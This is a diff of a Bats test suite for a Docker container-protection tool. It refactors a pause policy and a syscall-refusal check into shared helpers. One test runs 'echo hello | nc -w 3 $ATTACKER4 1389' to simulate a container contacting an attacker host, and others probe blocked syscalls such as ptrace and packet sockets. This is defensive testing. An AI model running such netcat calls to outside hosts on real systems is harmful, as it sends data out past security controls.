@@ -12,12 +12,6 @@ setup_file() {
   export STORY_RULES=$RULES
   calls_open
   export CALLS_RULES=$RULES RULES=$STORY_RULES
-  cat >"$SCRATCH/rules/pause.yaml" <<END
-policies:
-  - name: Pause
-    rules: ["$C2_RULE"]
-    response: pause
-END
   docker_open "$ROOTFS"
 }
 teardown_file() { story_close; }
@@ -119,7 +113,7 @@ comes_back() {
 @test "restarted always it is protected again" { comes_back always; }
 
 @test "stopped it stays so, whatever its restart policy" {
-  service "$SCRATCH/rules/pause.yaml"
+  service "$PAUSE_POLICY"
   protects
   shop --detach --restart always -- sleep 300
   run -0 bailiff_api stop shop --grace 1s
@@ -129,7 +123,7 @@ comes_back() {
 }
 
 @test "Docker knows of a pause and of its end" {
-  service "$SCRATCH/rules/pause.yaml"
+  service "$PAUSE_POLICY"
   protects
   shop --detach -- sh -c \
     "echo hello | nc -w 3 $ATTACKER4 1389; exec sleep 300"
@@ -189,24 +183,15 @@ comes_back() {
   docker_says '{{.State.Status}}' created
 }
 
-CALLS=(packet packet-wide inet ptrace mkdir mkdir-free open-secret open
-  packet32 packet-mux32 unix-mux32 mkdir32)
-
-refused() {
-  says packet=EPERM packet-wide=EPERM inet=done ptrace=EPERM mkdir=EPERM \
-    mkdir-free=done open-secret=EPERM open=done packet32=EPERM \
-    packet-mux32=EPERM unix-mux32=done mkdir32=EPERM
-}
-
 @test "Docker's own profile is extended" {
   RULES=$CALLS_RULES service "$SCRATCH/rules/calls.yaml"
   protects
   shop --detach --tmpfs /tmp -- sleep 300
-  run docker exec shop /bin/calls "${CALLS[@]}"
-  refused
+  run docker exec shop /bin/calls "${ALL_CALLS[@]}"
+  calls_refused
   docker rm --force shop
-  run shop --tmpfs /tmp -- /bin/calls "${CALLS[@]}"
-  refused
+  run shop --tmpfs /tmp -- /bin/calls "${ALL_CALLS[@]}"
+  calls_refused
   event "Folder made" '.bailiff.verdict == "denied"
     and .bailiff.container.name == "shop"'
 }
@@ -224,6 +209,6 @@ refused() {
 @test "a container without a profile" {
   RULES=$CALLS_RULES service "$SCRATCH/rules/calls.yaml"
   protects
-  run shop --rm --security-opt seccomp=unconfined --tmpfs /tmp -- /bin/calls "${CALLS[@]}"
-  refused
+  run shop --rm --security-opt seccomp=unconfined --tmpfs /tmp -- /bin/calls "${ALL_CALLS[@]}"
+  calls_refused
 }
